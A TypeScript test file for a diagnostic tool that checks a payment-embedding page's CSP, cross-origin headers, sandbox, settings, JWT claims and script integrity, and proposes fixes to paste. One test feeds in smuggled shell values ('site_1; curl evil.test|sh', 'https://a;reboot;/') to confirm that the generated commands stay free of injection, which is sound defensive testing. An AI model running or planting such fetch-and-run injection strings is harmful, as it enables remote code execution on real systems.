import * as v from 'valibot';
import { describe, expect, it } from 'vitest';
import type { Checkup } from '../worker/contract.ts';
import { UserClaims } from '../worker/rules/user-claims.ts';
import { policiesInHeader, policyInMeta } from './csp/policy.ts';
import { examine } from './examine.ts';
import type { ElementFacts, Facts, TokenFacts } from './facts.ts';
import type { Finding } from './finding.ts';
import { rightClaims } from './right-claims.ts';
import { checkedUp, good, goodPage, onPage, withElements } from './testing.ts';

const findings = (facts: Facts, outcome: Finding['outcome']) =>
  examine(facts).filter((finding) => finding.outcome === outcome);
const faults = (facts: Facts) => findings(facts, 'fault');
const pastes = (facts: Facts) => faults(facts).map(({ check, paste }) => `${check} | ${paste}`);

it('a page on which nothing is wrong has no fault, and nothing that cannot be known', () => {
  expect(examine(good).filter(({ outcome }) => outcome !== 'ok')).toEqual([]);
});

it('a fault names what to paste, whatever it is', () => {
  const nothing: Facts = {
    ...onPage({ settings: { site: null, api: null, tokens: null, nonce: null }, tag: null }),
    worker: { checkup: { came: 'unasked' }, integrity: null, webhook: null },
    token: { came: 'unasked' },
  };
  expect(pastes(nothing)).toEqual([
    "settings | init({ site: 'site_…' })",
    "settings | init({ api: 'https://pay.example.com' })",
    "settings | init({ tokenUrl: '/inlay/token' })",
  ]);
});

describe('a Content-Security-Policy', () => {
  const page = (policy: string, elements: readonly ElementFacts[], more: Partial<Facts['page']> = {}) =>
    onPage({ elements, policies: policiesInHeader(policy), ...more });
  const tags: readonly ElementFacts[] = [
    { tag: 'connect-onboard-button', presentation: null },
    { tag: 'link-bank-account', presentation: null },
    { tag: 'linked-bank-accounts', presentation: null },
    { tag: 'cashapp-save-method', presentation: 'inline' },
    { tag: 'cashapp-save-method', presentation: null },
    { tag: 'saved-payment-methods', presentation: null },
    { tag: 'connect-checkout-button', presentation: 'inline' },
    { tag: 'connect-checkout-button', presentation: null },
    { tag: 'connect-embedded', presentation: null },
  ];
  const policies = [
    "default-src 'none'",
    "default-src 'self'; frame-ancestors 'none'",
    "script-src 'self' https://pay.example.com/inlay.js; connect-src 'self'; trusted-types 'none'",
    "default-src 'self'; child-src https://video.test; style-src 'self'; require-trusted-types-for 'script'; trusted-types dompurify",
    "default-src 'self', script-src https:; frame-src https:",
  ];
  for (const element of tags) {
    it(`in place of one that forbids it lets <${element.tag} presentation="${element.presentation}"> work`, () => {
      for (const policy of policies) {
        const found = faults(page(policy, [element]));
        expect(found.length).toBeGreaterThan(0);
        const mended = found.map(({ paste = '' }) => paste.replace('Content-Security-Policy: ', '')).join(', ');
        expect(faults(page(mended, [element]))).toEqual([]);
      }
    });
  }

  it('is written out whole, with who needs what', () => {
    expect(faults(page("default-src 'self'; script-src 'self'", withElements('link-bank-account').elements))).toEqual([
      {
        check: 'content-security-policy',
        outcome: 'fault',
        owner: 'page',
        says: 'The Content-Security-Policy of the response forbids what is on this page. Send this one instead:',
        details: [
          'script-src lacks https://pay.example.com: for the script tag, the files of the elements',
          'connect-src (here default-src) lacks https://pay.example.com: for every element, to ask the Worker',
          'script-src lacks https://js.stripe.com: for <link-bank-account>',
          'script-src lacks https://*.js.stripe.com: for <link-bank-account>',
          'frame-src (here default-src) lacks https://js.stripe.com: for <link-bank-account>',
          'frame-src (here default-src) lacks https://*.js.stripe.com: for <link-bank-account>',
          'frame-src (here default-src) lacks https://hooks.stripe.com: for <link-bank-account>',
          'connect-src (here default-src) lacks https://api.stripe.com: for <link-bank-account>',
        ],
        paste:
          "Content-Security-Policy: default-src 'self'; script-src 'self' https://pay.example.com https://js.stripe.com https://*.js.stripe.com; connect-src 'self' https://pay.example.com https://api.stripe.com; frame-src 'self' https://js.stripe.com https://*.js.stripe.com https://hooks.stripe.com",
      },
    ]);
  });

  it('has to allow the policy of Trusted Types that the script tag makes, or the one of a Lit from npm', () => {
    const policy = "require-trusted-types-for 'script'; trusted-types app";
    expect(pastes(page(policy, goodPage.elements))).toEqual([expect.stringMatching(/trusted-types app inlay-html$/)]);
    expect(pastes(page(policy, goodPage.elements, { tag: null }))).toContainEqual(
      expect.stringMatching(/trusted-types app lit-html$/),
    );
  });

  it('of a meta is mended there', () => {
    const [found, ...others] = faults(onPage({ policies: policyInMeta('connect-src "x"') }));
    expect(others).toEqual([]);
    expect(found?.paste).toBe(
      '<meta http-equiv="Content-Security-Policy" content="connect-src &quot;x&quot; https://pay.example.com \'self\'">',
    );
  });

  it("with 'strict-dynamic' wants a nonce on the script tag, and no address", () => {
    const policy = "script-src 'nonce-r4nd0m' 'strict-dynamic' https:";
    expect(pastes(page(policy, goodPage.elements))).toEqual(['content-security-policy | nonce="{NONCE}"']);
    const tag = {
      src: 'https://pay.example.com/inlay.js',
      module: true,
      nonce: 'r4nd0m',
      integrity: null,
      crossOrigin: false,
    };
    expect(pastes(page(policy, withElements('link-bank-account').elements, { tag }))).toEqual([]);
  });

  it('with the nonce of the script tag lets scripts of Stripe’s in where data-csp-nonce gives it to them', () => {
    const tag = {
      src: 'https://pay.example.com/inlay.js',
      module: true,
      nonce: 'n',
      integrity: null,
      crossOrigin: false,
    };
    const policy = "script-src 'nonce-n'";
    const elements = withElements('link-bank-account').elements;
    expect(pastes(page(policy, elements, { tag }))).toHaveLength(1);
    expect(pastes(page(policy, elements, { tag, settings: { ...goodPage.settings, nonce: 'n' } }))).toEqual([]);
  });

  it('is written out without a nonce, which holds for one response only', () => {
    const [found] = faults(page("script-src 'nonce-r4nd0m' 'NONCE-0ther'; sandbox", goodPage.elements));
    expect(found?.says).toMatch(/Send this one instead, with the nonce of each response in place of {NONCE}:$/);
    expect(found?.paste).toBe("Content-Security-Policy: script-src 'nonce-{NONCE}' https://pay.example.com; sandbox");
    expect(JSON.stringify(faults(page("script-src 'nonce-r4nd0m'; sandbox", goodPage.elements)))).not.toContain('r4nd');
  });

  it('that is one of several is told from the others: whoever sends another in its place keeps those', () => {
    const says = (policy: string) => faults(page(policy, goodPage.elements)).map((found) => found.says.split('. ')[1]);
    expect(says("connect-src 'self'; img-src *, script-src https:")).toEqual([
      "Send this one instead of the one that begins connect-src 'self':",
    ]);
    expect(
      says("default-src https:; connect-src 'self', default-src https:; img-src *, sandbox allow-scripts"),
    ).toEqual([
      "Send this one instead of the one that begins default-src https:; connect-src 'self':",
      'Send this one instead of the one that begins sandbox allow-scripts:',
    ]);
  });

  it('of a page that has a stand-in for Stripe has to allow that instead, and in live mode Stripe itself', () => {
    const policy = "default-src 'self' https://pay.example.com";
    const live = page(policy, withElements('link-bank-account').elements, { standIn: 'http://localhost:12111' });
    expect(faults(live)[0]?.paste).toContain("frame-src 'self' https://pay.example.com https://js.stripe.com");
    const found = faults({ ...checkedUp({ mode: 'test' }), page: live.page });
    expect(found[0]?.paste).toContain("frame-src 'self' https://pay.example.com http://localhost:12111");
    expect(found[0]?.paste).not.toContain('stripe.com');
  });

  it('that cannot be read is not said to be fine', () => {
    expect(findings(onPage({ headers: null }), 'unknown').map(({ check }) => check)).toEqual([
      'content-security-policy',
    ]);
  });
});

describe('headers for the windows of banks, and for Stripe.js,', () => {
  const strict = { openerPolicy: 'same-origin', embedderPolicy: 'require-corp', referrerPolicy: 'no-referrer' };
  const found = (...tags: string[]) =>
    faults(onPage({ headers: strict, ...withElements(...tags) })).map((one) => one.check);
  const [opener, embedder, referrer] = [
    'cross-origin-opener-policy',
    'cross-origin-embedder-policy',
    'referrer-policy',
  ];

  it('are asked of a page on which an element needs them, and of no other', () => {
    expect(found('link-bank-account')).toEqual([opener, embedder, referrer]);
    expect(found('cashapp-save-method')).toEqual([embedder]);
    expect(found('connect-onboard-button', 'connect-account-status', 'saved-payment-methods')).toEqual([]);
    expect(found()).toEqual([]);
    const popup = [{ tag: 'connect-onboard-button', presentation: 'popup' }];
    expect(faults(onPage({ headers: strict, elements: popup })).map(({ check }) => check)).toEqual([opener, referrer]);
  });

  it('are not said to be fine for windows that nothing here opens', () => {
    const says = findings(onPage({ headers: strict }), 'ok').map((one) => one.says);
    expect(says.filter((sentence) => sentence.startsWith('No element here'))).toHaveLength(3);
    expect(says.join()).not.toMatch(/Banks learn|stay in touch with this page\.$/);
  });

  it.each([
    ['no-referrer, origin', null],
    ['no-referrer', 'always'],
    ['no-referrer', 'Origin-When-CrossOrigin'],
    ['same-origin', 'unsafe-url'],
    ['xyz', null],
  ])('let banks learn of the page with "%s" and a meta of "%s"', (referrerPolicy, metaReferrer) => {
    const headers = { openerPolicy: null, embedderPolicy: null, referrerPolicy };
    expect(pastes(onPage({ headers, metaReferrer, ...withElements('link-bank-account') }))).toEqual([]);
  });
});

it('a frame without a sandbox is no fault, and says what the elements do in it', () => {
  const inFrame = onPage({ frame: { framed: true, sandbox: null, opaque: false } });
  expect(findings(inFrame, 'fault')).toEqual([]);
  expect(findings(inFrame, 'ok').filter(({ check }) => check === 'frame')).toHaveLength(1);
  expect(findings(good, 'ok').filter(({ check }) => check === 'frame')).toEqual([]);
});

describe('what to paste for', () => {
  const headers = { openerPolicy: null, embedderPolicy: null, referrerPolicy: null };
  const frame = { framed: true, sandbox: null, opaque: false };
  const banks = withElements('link-bank-account');
  const unreadable = (name: string, value: string, more: Partial<Facts['page']> = {}) =>
    onPage({ unreadable: [{ name, value }], settings: { ...goodPage.settings, api: null }, ...more });
  const token = (facts: TokenFacts): Facts => ({ ...good, token: facts });
  const refused = (code: string): Facts => ({
    ...good,
    worker: { ...good.worker, checkup: { came: 'refusal', status: 403, code, message: 'No.' } },
  });
  const invalid = (param: string | null) => checkedUp({ token: { valid: false, code: 'token_invalid', param } });
  const saying = (claims: Record<string, unknown>, param: string): Facts => ({
    ...invalid(param),
    token: {
      came: 'token',
      skew: 0,
      redirected: null,
      claims: { iss: 'site_1', aud: 'x', iat: 1_800_000_000, exp: 1_800_003_600, ...claims },
    },
  });
  const webhook = (status: number, code: string | null): Facts => ({
    ...good,
    worker: { ...good.worker, webhook: { came: 'answer', status, code } },
  });

  const now = 'Math.floor(Date.now() / 1000)';

  const rows: readonly (readonly [name: string, facts: Facts, check: Finding['check'], paste: string])[] = [
    [
      'COOP',
      onPage({ headers: { ...headers, openerPolicy: 'Same-Origin; report-to="x"' }, ...banks }),
      'cross-origin-opener-policy',
      'Cross-Origin-Opener-Policy: same-origin-allow-popups',
    ],
    [
      'COEP',
      onPage({ headers: { ...headers, embedderPolicy: 'require-corp' }, ...banks }),
      'cross-origin-embedder-policy',
      'Cross-Origin-Embedder-Policy: unsafe-none',
    ],
    [
      'COEP without credentials',
      onPage({ headers: { ...headers, embedderPolicy: 'credentialless' }, ...banks }),
      'cross-origin-embedder-policy',
      'Cross-Origin-Embedder-Policy: unsafe-none',
    ],
    [
      'Referrer-Policy',
      onPage({ headers: { ...headers, referrerPolicy: 'origin, No-Referrer, xyz' }, ...banks }),
      'referrer-policy',
      'Referrer-Policy: strict-origin-when-cross-origin',
    ],
    [
      'a Referrer-Policy that tells banks nothing, either, and a meta that says nothing',
      onPage({ headers: { ...headers, referrerPolicy: 'same-origin' }, metaReferrer: 'xyz', ...banks }),
      'referrer-policy',
      'Referrer-Policy: strict-origin-when-cross-origin',
    ],
    [
      'meta referrer',
      onPage({ metaReferrer: 'no-referrer', ...banks }),
      'referrer-policy',
      '<meta name="referrer" content="strict-origin-when-cross-origin">',
    ],
    [
      'meta referrer of old',
      onPage({ metaReferrer: 'Never', ...banks }),
      'referrer-policy',
      '<meta name="referrer" content="strict-origin-when-cross-origin">',
    ],
    [
      'a sandbox',
      onPage({ frame: { ...frame, sandbox: 'allow-scripts allow-same-origin' }, ...withElements('link-bank-account') }),
      'sandbox',
      'sandbox="allow-scripts allow-same-origin allow-forms allow-popups allow-popups-to-escape-sandbox"',
    ],
    [
      'a sandbox that is not seen',
      onPage({ frame: { framed: null, sandbox: null, opaque: true } }),
      'sandbox',
      'sandbox="allow-scripts allow-same-origin"',
    ],
    [
      'a sandbox in the policy',
      onPage({ policies: policiesInHeader("sandbox allow-scripts; img-src 'self'") }),
      'sandbox',
      "Content-Security-Policy: sandbox allow-scripts allow-same-origin; img-src 'self'",
    ],
    [
      'the sandbox of a frame in which onboarding opens a window',
      onPage({ frame: { ...frame, sandbox: 'allow-scripts allow-same-origin' } }),
      'sandbox',
      'sandbox="allow-scripts allow-same-origin allow-popups allow-popups-to-escape-sandbox"',
    ],
    [
      'the sandbox of a frame in which Checkout stands',
      onPage({
        frame: { ...frame, sandbox: 'allow-scripts allow-same-origin' },
        ...withElements('connect-checkout-button'),
      }),
      'sandbox',
      'sandbox="allow-scripts allow-same-origin allow-forms"',
    ],
    [
      'a page in the clear, in live mode',
      onPage({ url: 'http://app.example.com/payouts' }),
      'mixed-content',
      'https://app.example.com/payouts',
    ],
    [
      'a Worker in the clear',
      onPage({ settings: { ...goodPage.settings, api: 'http://other.example.com' } }),
      'mixed-content',
      'data-api="https://other.example.com"',
    ],
    [
      'a token route in the clear, whose query is nobody else’s business',
      onPage({ settings: { ...goodPage.settings, tokens: { url: 'http://app.example.com/t?session=CANARY' } } }),
      'mixed-content',
      'data-token-url="https://app.example.com/t"',
    ],
    [
      'a Worker without a scheme',
      unreadable('data-api', 'pay.example.com'),
      'settings',
      'data-api="https://pay.example.com"',
    ],
    [
      'a Worker on this machine without a scheme',
      unreadable('api', 'localhost:6302/x?y'),
      'settings',
      'api="http://localhost:6302"',
    ],
    [
      'a Worker in another scheme',
      unreadable('data-api', 'ftp://pay.test'),
      'settings',
      'data-api="https://pay.example.com"',
    ],
    [
      'a Worker that a script sets',
      unreadable('data-api', '//pay.test', { tag: null }),
      'settings',
      "init({ api: 'https://pay.test' })",
    ],
    [
      'a token route that is no address',
      unreadable('data-token-url', 'https://', { settings: { ...goodPage.settings, tokens: null } }),
      'settings',
      'data-token-url="/inlay/token"',
    ],
    [
      'a token route without a scheme',
      unreadable('token-url', 'localhost:3000/t', { settings: { ...goodPage.settings, tokens: null } }),
      'settings',
      'token-url="http://localhost:3000/t"',
    ],
    [
      'a script without a scheme',
      unreadable('src', 'localhost:6302/inlay.js', { tag: null }),
      'settings',
      'src="http://localhost:6302/inlay.js"',
    ],
    ['no site', onPage({ settings: { ...goodPage.settings, site: null } }), 'settings', 'data-site="site_…"'],
    [
      'no token route',
      onPage({ settings: { ...goodPage.settings, tokens: null } }),
      'settings',
      'data-token-url="/inlay/token"',
    ],
    ['another origin', refused('origin_not_allowed'), 'origin', 'https://app.example.com'],
    ['another site', refused('site_unknown'), 'site', 'data-site="site_…"'],
    [
      'a Worker that is not there',
      { ...good, worker: { ...good.worker, checkup: { came: 'nothing', reason: 'ECONNREFUSED' } } },
      'worker',
      'data-api="https://pay.example.com"',
    ],
    [
      'something else than a Worker',
      { ...good, worker: { ...good.worker, checkup: { came: 'stranger', status: 200 } } },
      'worker',
      'data-api="https://pay.example.com"',
    ],
    [
      'a key of the other mode',
      checkedUp({ key_of_other_mode: 'secret_key' }),
      'keys',
      'npm run site -- change site_1 --stripe-keys',
    ],
    [
      'no terms',
      checkedUp({ missing: ['terms_url'] }, withElements('cashapp-save-method').elements),
      'terms',
      'npm run site -- change site_1 --terms-url https://app.example.com/terms',
    ],
    [
      'an endpoint that is not there',
      webhook(404, 'route_unknown'),
      'webhook-endpoint',
      'https://pay.example.com/v1/webhooks/stripe',
    ],
    [
      'an endpoint that redirects',
      webhook(301, null),
      'webhook-endpoint',
      'https://pay.example.com/v1/webhooks/stripe',
    ],
    [
      'an endpoint out of reach',
      { ...good, worker: { ...good.worker, webhook: { came: 'nothing', reason: 'ECONNRESET' } } },
      'webhook-endpoint',
      'https://pay.example.com/v1/webhooks/stripe',
    ],
    [
      'a Worker without secrets',
      webhook(500, 'misconfigured'),
      'webhook-endpoint',
      'https://pay.example.com/v1/webhooks/stripe',
    ],
    [
      'a token route that is not there',
      token({ came: 'status', status: 404, redirected: null }),
      'token-route',
      'POST /inlay/token',
    ],
    [
      'a token route that fails',
      token({ came: 'status', status: 500, redirected: null }),
      'token-route',
      '{ "token": "eyJ…" }',
    ],
    [
      'a token route that sends to a login',
      token({ came: 'text', type: 'text/html', redirected: 'https://app.example.com/login' }),
      'token-route',
      'data-token-url="https://app.example.com/login"',
    ],
    [
      'a token route of HTML',
      token({ came: 'text', type: 'text/html', redirected: null }),
      'token-route',
      '{ "token": "eyJ…" }',
    ],
    [
      'a token route out of reach',
      token({ came: 'nothing', reason: 'time-out' }),
      'token-route',
      'data-token-url="/inlay/token"',
    ],
    ['aud', saying({}, 'aud'), 'token', '"aud": "https://pay.example.com"'],
    ['iss', saying({ iss: 'site_2' }, 'iss'), 'token', '"iss": "site_1"'],
    ['exp', saying({}, 'exp'), 'token', '"exp": iat + 300'],
    ['no exp', saying({ exp: null }, 'exp'), 'token', '"exp": iat + 300'],
    ['jti', saying({}, 'jti'), 'token', '"jti": "<a UUID>"'],
    ['sub', saying({}, 'sub'), 'token', '"sub": "<your user id>"'],
    ['iat in milliseconds', saying({ iat: 1_800_000_000_000 }, 'iat'), 'token', `"iat": ${now}`],
    [
      'iat in milliseconds, where the Worker takes offence at exp first',
      saying({ iat: 1_800_000_000_000, exp: 1_800_000_300_000 }, 'exp'),
      'token',
      `"exp": ${now} + 300`,
    ],
    ['exp in milliseconds', saying({ exp: 1_800_000_300_000 }, 'exp'), 'token', `"exp": ${now} + 300`],
    ['no iat', saying({ iat: null }, 'iat'), 'token', `"iat": ${now}`],
    ['nbf in the future', saying({}, 'nbf'), 'token', `"nbf": ${now}`],
    ['email', saying({}, 'email'), 'token', '"email": "ada@example.com"'],
    ['scope that is no list', saying({}, 'scope'), 'token', '"scope": ["onboard"]'],
    ['a scope that there is not', saying({}, 'scope.0'), 'token', '"scope": ["onboard"]'],
    ['a country of three letters', saying({}, 'account.country'), 'token', '"account": {"country":"US"}'],
    [
      'a date of birth that is a text',
      saying({}, 'account.individual.dob'),
      'token',
      '"account": {"individual":{"dob":{"day":10,"month":12,"year":1985}}}',
    ],
    ['what cannot be said of a bank', saying({}, 'bank.limits.banks'), 'token', '"bank": {"limits":{"accounts":1}}'],
    [
      'what is no object',
      saying({}, 'payload'),
      'token',
      '{ "iss": …, "aud": …, "sub": …, "iat": …, "exp": …, "jti": …, "scope": … }',
    ],
    ['the header', invalid('header'), 'token', '{ "alg": "HS256", "typ": "inlay+jwt", "kid": "key_…" }'],
    ['the key id', invalid('kid'), 'token', 'npm run site -- rotate site_1'],
    ['the signature', invalid('signature'), 'token', 'npm run site -- rotate site_1'],
    ['no token at all', invalid(null), 'token', '{ "token": "eyJ…" }'],
    ['a scope', checkedUp({ token: { valid: true, scope: ['bank'] } }), 'token-scope', '"scope": ["bank","onboard"]'],
    ['a clock ahead', { ...saying({ iat: 1_800_000_060 }, 'iat') }, 'clock', 'timedatectl set-ntp true'],
    [
      'a clock behind',
      { ...good, token: { came: 'token', claims: null, skew: -90, redirected: null } },
      'clock',
      'timedatectl set-ntp true',
    ],
  ];
  for (const [name, facts, check, paste] of rows) {
    it(`${name}: ${paste}`, () => {
      expect(pastes(facts)).toEqual([`${check} | ${paste}`]);
    });
  }

  it('nothing, where it cannot be known', () => {
    const unknown = (facts: Facts) => findings(facts, 'unknown').map(({ check }) => check);
    expect(unknown(token({ came: 'status', status: 401, redirected: null }))).toEqual(['token-route']);
    expect(unknown(refused('rate_limited'))).toEqual(['worker']);
    expect(unknown(refused('storage_unavailable'))).toEqual(['worker']);
    expect(unknown(onPage({ elements: [] }))).toEqual(['elements']);
    expect(unknown(onPage({ standIn: 'https://cdn.test' }))).toEqual(['stripe-script']);
    expect(
      unknown({ ...checkedUp({ mode: 'test' }), ...{ page: { ...goodPage, standIn: 'https://cdn.test' } } }),
    ).toEqual([]);
    const never = checkedUp(
      { webhooks: { account: 'never', connect: 'never' } },
      withElements('connect-embedded', 'link-bank-account').elements,
    );
    expect(unknown(never)).toEqual(['webhooks', 'webhooks']);
  });
});

it('every claim that there is to paste is one that the Worker takes', () => {
  const said = { iss: 'site_1', aud: 'https://pay.example.com', sub: 'ada', iat: 1, exp: 2, jti: 'j', ...rightClaims };
  expect(v.parse(UserClaims, said)).toEqual(said);
  const optional = Object.keys(UserClaims.entries).filter(
    (name) => !['iss', 'aud', 'sub', 'iat', 'exp', 'nbf', 'jti'].includes(name),
  );
  expect(Object.keys(rightClaims).sort()).toEqual(optional.sort());
});

it('puts into a command no id that is none, and no address that a shell would act on', () => {
  const evil = 'site_1; curl evil.test|sh';
  const of = (change: Partial<Checkup>) => {
    const facts = checkedUp({ site: evil, ...change }, withElements('cashapp-save-method').elements);
    return {
      ...facts,
      page: { ...facts.page, url: 'https://a;reboot;/', settings: { ...goodPage.settings, site: evil } },
    };
  };
  const invalid = (param: string) => ({ token: { valid: false, code: 'token_invalid', param } }) as const;
  const said = [
    of({ key_of_other_mode: 'secret_key' }),
    of({ missing: ['terms_url'] }),
    of(invalid('kid')),
    of(invalid('signature')),
    {
      ...of({}),
      worker: {
        ...good.worker,
        checkup: { came: 'refusal', status: 403, code: 'origin_not_allowed', message: '' },
      } as const,
    },
  ].flatMap((facts) => faults(facts).map(({ says, paste }) => `${says} ${paste}`));
  const commands = said.flatMap((text) => /npm run site[^)]*/.exec(text) ?? []);
  expect(commands).toEqual([
    'npm run site -- change site_… --stripe-keys',
    'npm run site -- change site_… --terms-url https://app.example.com/terms',
    'npm run site -- rotate site_…',
    'npm run site -- rotate site_…',
    'npm run site -- change site_… --origin …, once for each',
  ]);
});

describe('integrity', () => {
  const published = { 'inlay.js': 'sha384-a', 'v/1.0.0/inlay.js': 'sha384-b', 'v/1.0.0/inlay.iife.js': 'sha384-c' };
  const tagged = (src: string, integrity: string, module = true, crossOrigin = false): Facts => ({
    ...onPage({ tag: { src: `https://pay.example.com/${src}`, module, nonce: null, integrity, crossOrigin } }),
    worker: { ...good.worker, integrity: published },
  });
  it.each([
    [tagged('v/1.0.0/inlay.js', 'sha384-b'), []],
    [tagged('v/1.0.0/inlay.js', 'sha256-x sha384-b'), []],
    [tagged('v/1.0.0/inlay.js', 'sha384-a'), ['integrity | integrity="sha384-b"']],
    [tagged('v/1.0.0/inlay.iife.js', 'sha384-c', false), ['integrity | crossorigin="anonymous"']],
    [tagged('v/1.0.0/inlay.iife.js', 'sha384-c', false, true), []],
    [
      tagged('inlay.js', 'sha384-a'),
      ['integrity | src="https://pay.example.com/v/1.0.0/inlay.js" integrity="sha384-b"'],
    ],
  ])('%#', (facts, expected) => {
    expect(pastes(facts)).toEqual(expected);
  });
});
